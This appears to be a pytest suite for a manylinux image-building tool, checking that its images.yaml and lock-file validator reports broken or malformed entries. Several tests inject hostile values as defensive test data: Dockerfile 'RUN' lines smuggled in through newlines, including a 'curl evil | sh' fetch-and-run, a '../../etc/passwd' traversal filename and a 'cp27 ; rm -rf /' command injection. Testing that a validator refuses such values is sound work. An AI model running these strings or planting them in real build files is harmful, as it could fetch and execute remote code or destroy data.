"""images.yaml validation: the real file loads; every kind of broken file is reported clearly."""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from manyforge.spec import DEFAULT_LOCK, DEFAULT_SPEC, SpecError, load_spec

ROOT = Path(__file__).resolve().parents[2]
RAW = yaml.safe_load(DEFAULT_SPEC.read_text())


def write(tmp_path: Path, data) -> Path:
    path = tmp_path / "images.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False) if not isinstance(data, str) else data)
    return path


def problems_of(tmp_path: Path, data) -> list[str]:
    with pytest.raises(SpecError) as err:
        load_spec(write(tmp_path, data))
    return err.value.problems


def mutated(fn):
    data = copy.deepcopy(RAW)
    fn(data)
    return data


def test_repository_matrix_loads(spec):
    assert "manylinux_2_36" in spec.images
    for image in spec.images.values():
        for arch in image.archs:
            assert arch in spec.data.bases[image.base].archs


def test_unknown_key_names_path_and_allowed_keys(tmp_path):
    problems = problems_of(tmp_path, mutated(lambda d: d["images"]["manylinux_2_36"].update(archz=["x86_64"])))
    assert problems == [
        "images.yaml: images.manylinux_2_36.archz: unknown key; allowed keys here: policy, libc, base, "
        "base_variants, toolchain, toolchain_variants, archs, interpreters, tools_interpreter, tools, "
        "optional_tools, tool_versions, downloadable, not_offered, toolset_first_on_path"
    ]


def test_unknown_top_level_key(tmp_path):
    problems = problems_of(tmp_path, mutated(lambda d: d.update(imagez={})))
    assert len(problems) == 1 and problems[0].startswith("images.yaml: imagez: unknown key; allowed keys here: org, cpython")


def test_unknown_arch_lists_allowed(tmp_path):
    problems = problems_of(tmp_path, mutated(lambda d: d["images"]["manylinux_2_36"]["archs"].append("sparc64")))
    assert len(problems) == 1
    assert problems[0].startswith("images.yaml: images.manylinux_2_36.archs[6]: 'sparc64' is not allowed; expected 'x86_64'")


def test_wrong_types(tmp_path):
    def breaks(d):
        d["images"]["manylinux_2_36"]["libc"]["version"] = 2.36
        d["interpreters"]["cp313-cp313t"]["free_threaded"] = "yes"

    problems = problems_of(tmp_path, mutated(breaks))
    assert any(p.startswith("images.yaml: images.manylinux_2_36.libc.version: Input should be a valid string") for p in problems)
    assert any(p.startswith("images.yaml: interpreters.cp313-cp313t.free_threaded: Input should be a valid boolean") for p in problems)
    assert len(problems) == 2


def test_arch_the_base_does_not_have(tmp_path):
    problems = problems_of(tmp_path, mutated(lambda d: d["images"]["manylinux_2_34"]["archs"].append("i686")))
    assert "images.yaml: images.manylinux_2_34.archs[4]: base 'almalinux9' has no i686; it has: x86_64, aarch64, ppc64le, s390x" in problems
    assert "images.yaml: images.manylinux_2_34.archs[4]: base 'ubi9' has no i686; it has: x86_64, aarch64, ppc64le, s390x" in problems


def test_duplicate_image_is_reported_with_lines(tmp_path):
    text = DEFAULT_SPEC.read_text()
    start = text.index("  manylinux_2_36:\n")
    duplicated = text + text[start:]
    problems = problems_of(tmp_path, duplicated)
    assert len(problems) == 1
    assert "duplicate key 'manylinux_2_36'" in problems[0] and "first defined on line" in problems[0]


def test_missing_cpython_pin(tmp_path):
    problems = problems_of(tmp_path, mutated(lambda d: d["cpython"]["3.13.15"].pop("sha256")))
    assert problems == ["images.yaml: cpython.3.13.15.sha256: required key is missing"]


def test_interpreter_without_pinned_source(tmp_path):
    problems = problems_of(tmp_path, mutated(lambda d: d["cpython"].pop("3.9.25")))
    assert problems[0].startswith("images.yaml: interpreters.cp39-cp39.cpython: no pinned source for CPython 3.9.25")


def test_tool_without_lock_entry(tmp_path):
    problems = problems_of(tmp_path, mutated(lambda d: d["tools"].update(auditwheel="0.0.1")))
    assert "images.yaml: images.manylinux_2_36.tools: no pin for auditwheel==0.0.1 on manylinux_2_36_x86_64 in wheels.lock.json; run `invoke lock`" in problems


def test_bad_sha256_and_unpinned_base(tmp_path):
    def breaks(d):
        d["cpython"]["3.11.2"]["sha256"] = "abc"
        d["bases"]["almalinux9"]["image"] = "almalinux:9"

    problems = problems_of(tmp_path, mutated(breaks))
    assert any(p.startswith("images.yaml: cpython.3.11.2.sha256: 'abc' does not match the required form") for p in problems)
    assert any(p.startswith("images.yaml: bases.almalinux9.image: 'almalinux:9' does not match the required form") for p in problems)


def test_every_problem_is_reported_at_once(tmp_path):
    def breaks(d):
        d["images"]["manylinux_2_36"]["toolchain"] = "clang-99"
        d["images"]["musllinux_1_2"]["interpreters"] = [*d["defaults"]["interpreters"], "cp27-cp27mu"]
        d["images"]["manylinux_2_28"]["libc"]["name"] = "musl"

    problems = problems_of(tmp_path, mutated(breaks))
    assert len(problems) == 3
    assert any("images.manylinux_2_36.toolchain: unknown toolchain 'clang-99'" in p for p in problems)
    assert any("images.musllinux_1_2.interpreters[10]: unknown interpreter 'cp27-cp27mu'" in p for p in problems)
    assert any("images.manylinux_2_28.libc.name: manylinux_2_28 needs glibc, not musl" in p for p in problems)


def test_downloadable_interpreters_are_checked(tmp_path):
    def hostile_url(d):
        d["downloadable"]["pp311-pypy311_pp80"]["files"]["x86_64"]["url"] = "https://example.invalid/x.tar.bz2\nRUN evil"

    problems = problems_of(tmp_path, mutated(hostile_url))
    assert len(problems) == 1 and problems[0].startswith("images.yaml: downloadable.pp311-pypy311_pp80.files.x86_64.url: ")
    problems = problems_of(tmp_path, mutated(lambda d: d["images"]["manylinux_2_36"].update(
        downloadable=[*d["defaults"]["downloadable"], "pp399-pypy399_pp73"])))
    assert any("images.manylinux_2_36.downloadable[5]: unknown interpreter 'pp399-pypy399_pp73'" in p for p in problems), problems


def test_frontend_takes_version_specifiers(tmp_path):
    problems = problems_of(tmp_path, mutated(lambda d: d["frontend"].update(build="latest please")))
    assert any(p.startswith("images.yaml: frontend.build: ") for p in problems), problems


def test_hostile_toolchain_prefix_is_refused(tmp_path):
    bad = "/opt/x\nRUN curl evil | sh"
    problems = problems_of(tmp_path, mutated(lambda d: d["toolchains"]["devtoolset-10"].update(prefix=bad)))
    assert len(problems) == 1 and problems[0].startswith("images.yaml: toolchains.devtoolset-10.prefix: ")


def _lock_with(tmp_path, fn) -> list[str]:
    lock = json.loads(DEFAULT_LOCK.read_text())
    fn(lock)
    path = tmp_path / "wheels.lock.json"
    path.write_text(json.dumps(lock))
    with pytest.raises(SpecError) as err:
        load_spec(DEFAULT_SPEC, lock_path=path)
    return err.value.problems


def test_lock_file_names_are_plain_and_match_their_entry(tmp_path):
    def traversal(lock):
        lock["platforms"]["manylinux_2_36_x86_64"][0]["filename"] = "../../etc/passwd.whl"

    assert any("platforms.manylinux_2_36_x86_64[0].filename" in p for p in _lock_with(tmp_path, traversal))

    def mismatch(lock):
        lock["interpreters"]["cp39-cp39"][0]["version"] = "0.1"

    problems = _lock_with(tmp_path, mismatch)
    assert any(p.startswith("wheels.lock.json: interpreters.cp39-cp39[0]: ") and "is not" in p for p in problems), problems


def test_every_interpreter_has_its_frontend_locked(tmp_path):
    problems = _lock_with(tmp_path, lambda lock: lock["interpreters"].pop("cp311-cp311"))
    assert "wheels.lock.json: interpreters.cp311-cp311: no pin of build>=1.4.4; run `invoke lock`" in problems


def test_not_yaml(tmp_path):
    problems = problems_of(tmp_path, "images: [unclosed\n")
    assert problems[0].startswith("images.yaml: line ") and "not valid YAML" in problems[0]


def run_invoke(*args: str, spec: Path | None = None, env_path: str | None = None) -> subprocess.CompletedProcess:
    env = dict(os.environ)
    if spec is not None:
        env["MANYFORGE_SPEC"] = str(spec)
    if env_path is not None:
        env["PATH"] = env_path
    return subprocess.run(
        [sys.executable, "-m", "invoke", *args], cwd=ROOT, env=env, capture_output=True, text=True, check=False
    )


def test_cli_reports_broken_file_without_traceback_and_builds_nothing(tmp_path):
    broken = write(tmp_path, mutated(lambda d: d["images"]["manylinux_2_36"]["archs"].append("sparc64")))
    for task in ("render", "build", "fetch"):
        proc = run_invoke(task, spec=broken)
        assert proc.returncode == 2, (task, proc.stderr)
        assert "Traceback" not in proc.stderr
        assert "error: images.yaml: images.manylinux_2_36.archs[6]: 'sparc64' is not allowed" in proc.stderr


def test_cli_unknown_image_and_arch_list_choices():
    proc = run_invoke("build", "--image", "manylinux_9_99")
    assert proc.returncode == 2
    assert "unknown image 'manylinux_9_99'; choose one of: manylinux2014, manylinux_2_28" in proc.stderr
    proc = run_invoke("render", "--image", "musllinux_1_2", "--arch", "sparc64")
    assert proc.returncode == 2
    assert "unknown arch 'sparc64' for image musllinux_1_2; choose one of: x86_64, i686, aarch64, ppc64le, s390x, armv7l, riscv64" in proc.stderr
    proc = run_invoke("render", "--image", "manylinux_2_34", "--toolchain", "gcc-toolset-9")
    assert proc.returncode == 2
    assert "choose one of: gcc-toolset-14, gcc-toolset-13" in proc.stderr


def test_unbuilt_reason_is_refused_for_an_arch_the_image_builds(tmp_path):
    problems = problems_of(tmp_path, mutated(lambda d: d.setdefault("unbuilt", {}).update(
        {"manylinux_2_36": {"x86_64": "a reason a user could check"}})))
    assert any("unbuilt.manylinux_2_36.x86_64: images.manylinux_2_36 builds x86_64" in p for p in problems), problems


@pytest.mark.parametrize("reason", ["short", "x\nRUN id", "caf\u00e9 is closed here", "y" * 401])
def test_unbuilt_reason_is_one_line_of_ascii(tmp_path, reason):
    problems = problems_of(tmp_path, mutated(lambda d: d.setdefault("unbuilt", {}).update({"manylinux_2_99": {"riscv64": reason}})))
    assert any("unbuilt.manylinux_2_99.riscv64" in p for p in problems), problems


def test_not_offered_is_refused_for_an_interpreter_the_image_offers(tmp_path):
    problems = problems_of(tmp_path, mutated(lambda d: d["images"]["manylinux_2_36"].update(
        not_offered={**d["defaults"]["not_offered"], "pp311-pypy311_pp80": "a reason a user could check"})))
    assert any("images.manylinux_2_36.not_offered.pp311-pypy311_pp80: the image carries or offers" in p for p in problems), problems


def test_images_inherit_defaults_and_their_own_keys_replace_them(tmp_path):
    """`defaults` gives every image the lists it does not give itself; an image's own list
    replaces the default whole, and a broken default is reported once, under defaults."""
    spec = load_spec(DEFAULT_SPEC)
    assert spec.images["manylinux_2_36"].interpreters == tuple(RAW["defaults"]["interpreters"])
    assert spec.images["musllinux_1_2"].downloadable == ()  # its own empty list wins
    assert "swig" in spec.images["manylinux2014"].tools and "swig" not in spec.images["manylinux_2_36"].tools
    problems = problems_of(tmp_path, mutated(lambda d: d["defaults"].update(tools_interpreter="cp27 ; rm -rf /")))
    # Reported where it is written; the images that would have inherited it miss the key.
    assert problems[0].startswith("images.yaml: defaults.tools_interpreter: 'cp27 ; rm -rf /' does not match"), problems
    assert all(p.endswith("tools_interpreter: required key is missing") for p in problems[1:]), problems
    problems = problems_of(tmp_path, mutated(lambda d: d["defaults"].update(colour="blue")))
    assert problems == [problems[0]] and "defaults.colour: unknown key" in problems[0], problems
